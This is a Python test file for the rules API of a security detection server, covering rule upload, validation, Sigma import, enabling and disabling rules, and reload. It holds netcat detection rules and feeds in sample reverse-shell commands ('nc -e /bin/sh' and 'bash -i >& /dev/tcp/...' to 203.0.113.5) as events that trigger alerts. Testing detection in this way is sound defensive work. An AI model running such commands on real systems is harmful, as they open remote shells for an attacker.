"""The rules API: listing with hits and file:line, uploads checked with file:line errors, Sigma
imports, switching rules on and off, reloads, and the engine's status."""

from __future__ import annotations

import pytest

from tests.integration._manager import check_schema
from tests.unit.server._inproc import api_client, ingest, running_server
from tests.unit.server.manager.test_alerts import wait_for

pytestmark = pytest.mark.anyio

GOOD = b"""rules:
  - id: custom_ncat
    name: ncat started
    severity: high
    data_type: execve
    attack: [T1059]
    match: {field: exe, endswith: /ncat}
"""
BAD = b"""rules:
  - id: custom_ok
    severity: low
    data_type: execve
    match: {field: exe, endswith: /ok}
  - id: custom_bad
    severity: high
    data_type: execve
    match: {field: argv, regex: '(unclosed'}
"""
SIGMA = b"""title: Netcat with exec
id: 0b9d4c5e-2f58-4a4e-9c9a-1f6f2e1d7a01
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: /nc, CommandLine|contains: ' -e '}
  condition: sel
level: high
---
title: Windows-only field
id: 7c0e6a1b-8e3a-4f1d-9b0e-3c5d2a9f4b02
logsource: {product: linux, category: process_creation}
detection:
  sel: {IntegrityLevel: High}
  condition: sel
level: medium
"""


@pytest.fixture
async def server(tmp_path, db_url):
    async with running_server(tmp_path / "srv", db_url=db_url) as ctx:
        async with api_client(ctx, "viewer") as viewer, api_client(ctx, "analyst") as analyst, \
                api_client(ctx) as admin:  # fmt: skip
            yield ctx, viewer, analyst, admin, (await admin.get("/api/v1/openapi.json")).json()


def upload(client, name: str, data: bytes, path: str = "/api/v1/rules/files", **params):
    return client.post(path, data={"name": name}, files={"file": (name, data)}, params=params)


async def test_listing_rules_with_sources_and_filters(server):
    ctx, viewer, *_, doc = server
    body = (await viewer.get("/api/v1/rules")).json()
    check_schema(doc, "RuleList", body)
    assert body["total"] == 70
    shell = next(r for r in body["items"] if r["id"] == "reverse_shell_dev_tcp")
    assert shell["file"] == "<default>/reverse_shell.yaml" and shell["line"] > 1 and shell["enabled"]
    assert (shell["hits"], shell["alerts"], shell["last_alert_at"]) == (0, 0, None)
    r = await viewer.get("/api/v1/rules", params={"q": "SSH", "kind": "frequency"})
    assert {i["id"] for i in r.json()["items"]} == {"ssh_bruteforce_single_source", "ssh_bruteforce_distributed",
                                                    "ssh_user_enumeration"}  # fmt: skip
    r = await viewer.get("/api/v1/rules", params={"severity": "critical", "page_size": 5, "page": 2})
    assert len(r.json()["items"]) == 5 and r.json()["total"] > 10
    for params, message in [({"page_size": 5000}, "between 1 and 1000"), ({"enabled": "maybe"}, "true or false"),
                            ({"kind": "x"}, "must be one of")]:  # fmt: skip
        r = await viewer.get("/api/v1/rules", params=params)
        assert r.status_code == 400 and message in r.json()["error"]["message"]
    assert (await viewer.get("/api/v1/rules/nope")).status_code == 404
    check_schema(doc, "Rule", (await viewer.get("/api/v1/rules/reverse_shell_dev_tcp")).json())


async def test_a_bad_upload_gets_file_line_errors_and_changes_nothing(server):
    ctx, viewer, analyst, admin, doc = server
    assert (await upload(analyst, "mine.yaml", GOOD)).status_code == 403
    r = await upload(admin, "mine.yaml", BAD)
    assert r.status_code == 400, r.text
    body = r.json()
    assert body["error"]["code"] == "rules_invalid"
    assert body["error"]["message"].startswith("rules refused, the running rules stay in force: <api>/mine.yaml:9: E134")
    [error] = body["errors"]
    assert (error["file"], error["line"], error["code"], error["rule_id"]) == ("<api>/mine.yaml", 9, "E134", "custom_bad")
    assert (await viewer.get("/api/v1/rules/files")).json()["items"] == []
    assert (await viewer.get("/api/v1/rules/custom_ok")).status_code == 404  # not even the good rule of the file
    status = (await viewer.get("/api/v1/rules/status")).json()
    check_schema(doc, "RulesStatus", status)
    assert status["last_reload"]["ok"] is False and status["refused"] == 1 and status["running"]["rules"] == 70
    for name, data, message in [("bad name.yaml", GOOD, "is not valid"), ("x.yaml", b"\xff\xfe", "not UTF-8"),
                                ("x.yaml", b"rules: [\n", "E101"), ("x.yaml", b"a: &x 1\nb: *x\n", "E104"),
                                ("x.yaml", b"- just a list\n", "E102"), ("x.yaml", SIGMA, None)]:  # fmt: skip
        r = await upload(admin, name, data, check_only="true")
        if message is None:
            assert r.status_code == 200  # a Sigma file is a rule file too
            continue
        assert r.status_code == 400 and message in r.text, (name, r.text)
    r = await admin.post("/api/v1/rules/files", json={"name": "x.yaml"})
    assert r.status_code == 400 and "multipart/form-data" in r.json()["error"]["message"]


async def test_an_upload_takes_effect_at_once_and_can_be_removed(server):
    ctx, viewer, analyst, admin, doc = server
    r = await upload(admin, "mine.yaml", GOOD, check_only="true")
    assert r.status_code == 200 and r.json()["stored"] is False
    assert (await viewer.get("/api/v1/rules/custom_ncat")).status_code == 404
    r = await upload(admin, "mine.yaml", GOOD)
    assert r.status_code == 200, r.text
    check_schema(doc, "RuleUpload", r.json())
    assert r.json()["rules"] == ["custom_ncat"] and r.json()["report"]["ok"]
    await ingest(ctx, "h1", [[(59, {"exe": "/usr/bin/ncat", "argv": "ncat -l 4444", "pid": "9"})]])
    body = await wait_for(viewer, lambda b: b["total"] == 1, params={"rule_id": "custom_ncat"})
    assert body["items"][0]["attack"] == ["T1059"]
    rule = (await viewer.get("/api/v1/rules/custom_ncat")).json()
    assert (rule["file"], rule["line"], rule["hits"], rule["alerts"]) == ("<api>/mine.yaml", 2, 1, 1)
    got = (await viewer.get("/api/v1/rules/files/mine.yaml")).json()
    check_schema(doc, "RuleFile", got)
    assert got["text"] == GOOD.decode() and got["kind"] == "rules" and got["created_by"].startswith("admin-")
    r = await admin.delete("/api/v1/rules/files/mine.yaml")
    assert r.status_code == 200 and r.json()["ok"]
    assert (await viewer.get("/api/v1/rules/custom_ncat")).status_code == 404
    assert (await admin.delete("/api/v1/rules/files/mine.yaml")).status_code == 404
    assert (await viewer.get("/api/v1/rules/files/..%2Fx.yaml")).status_code == 404
    audit = (await admin.get("/api/v1/audit", params={"action": "rules.upload_rule_file"})).json()["items"]
    assert [(a["target"], a["outcome"]) for a in audit] == [("mine.yaml", "ok"), ("mine.yaml", "ok")]


async def test_sigma_import_lists_what_cannot_be_mapped(server):
    ctx, viewer, analyst, admin, doc = server
    r = await upload(admin, "nc.yml", SIGMA, "/api/v1/rules/sigma")
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["rules"] == ["0b9d4c5e-2f58-4a4e-9c9a-1f6f2e1d7a01"]
    [skipped] = body["unmappable"]
    assert skipped["rule_id"] == "7c0e6a1b-8e3a-4f1d-9b0e-3c5d2a9f4b02" and "IntegrityLevel" in skipped["reason"]
    r = await upload(admin, "ours.yaml", GOOD, "/api/v1/rules/sigma")
    assert r.status_code == 400 and "not a Sigma rule" in r.json()["error"]["message"]
    await ingest(ctx, "h2", [[(59, {"exe": "/usr/bin/nc", "argv": "nc -e /bin/sh 203.0.113.5 4444", "pid": "7"})]])
    await wait_for(viewer, lambda b: b["total"] == 1, params={"rule_id": "0b9d4c5e-2f58-4a4e-9c9a-1f6f2e1d7a01"})


async def test_switching_a_rule_off_and_on(server):
    ctx, viewer, analyst, admin, doc = server
    path = "/api/v1/rules/reverse_shell_dev_tcp/enabled"
    assert (await viewer.put(path, json={"enabled": False})).status_code == 403
    r = await analyst.put(path, json={"enabled": False, "comment": "maintenance window"})
    assert r.status_code == 200, r.text
    check_schema(doc, "RuleChange", r.json())
    assert r.json()["rule"]["enabled"] is False and r.json()["rule"]["setting"]["comment"] == "maintenance window"
    shell = {"exe": "/usr/bin/bash", "argv": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "pid": "5"}
    await ingest(ctx, "h3", [[(59, shell)]])
    await wait_for(viewer, lambda s: s["runner"]["records"] >= 1, "/api/v1/engine/status")
    assert (await viewer.get("/api/v1/alerts", params={"rule_id": "reverse_shell_dev_tcp"})).json()["total"] == 0
    assert (await analyst.put(path, json={"enabled": True})).json()["rule"]["enabled"] is True
    await ingest(ctx, "h3", [[(59, shell)]])
    await wait_for(viewer, lambda b: b["total"] == 1, params={"rule_id": "reverse_shell_dev_tcp"})
    for body, code in [({"enabled": "no"}, 400), ({}, 400)]:
        assert (await analyst.put(path, json=body)).status_code == code
    assert (await analyst.put("/api/v1/rules/no_such_rule/enabled", json={"enabled": False})).status_code == 404


async def test_reload_and_engine_status(server):
    ctx, viewer, analyst, admin, doc = server
    (ctx.config.rules_path / "dir.yaml").write_text(GOOD.decode().replace("custom_ncat", "dir_ncat"))
    assert (await viewer.post("/api/v1/rules/reload")).status_code == 403
    r = await analyst.post("/api/v1/rules/reload")
    assert r.status_code == 200 and r.json()["ok"] and r.json()["trigger"] == "request"
    check_schema(doc, "ReloadReport", r.json())
    assert (await viewer.get("/api/v1/rules/dir_ncat")).json()["file"] == str(ctx.config.rules_path / "dir.yaml")
    status = (await viewer.get("/api/v1/engine/status")).json()
    check_schema(doc, "EngineStatus", status)
    assert status["rules"]["running"]["rules"] == 71 and status["runner"]["queued_batches"] == 0
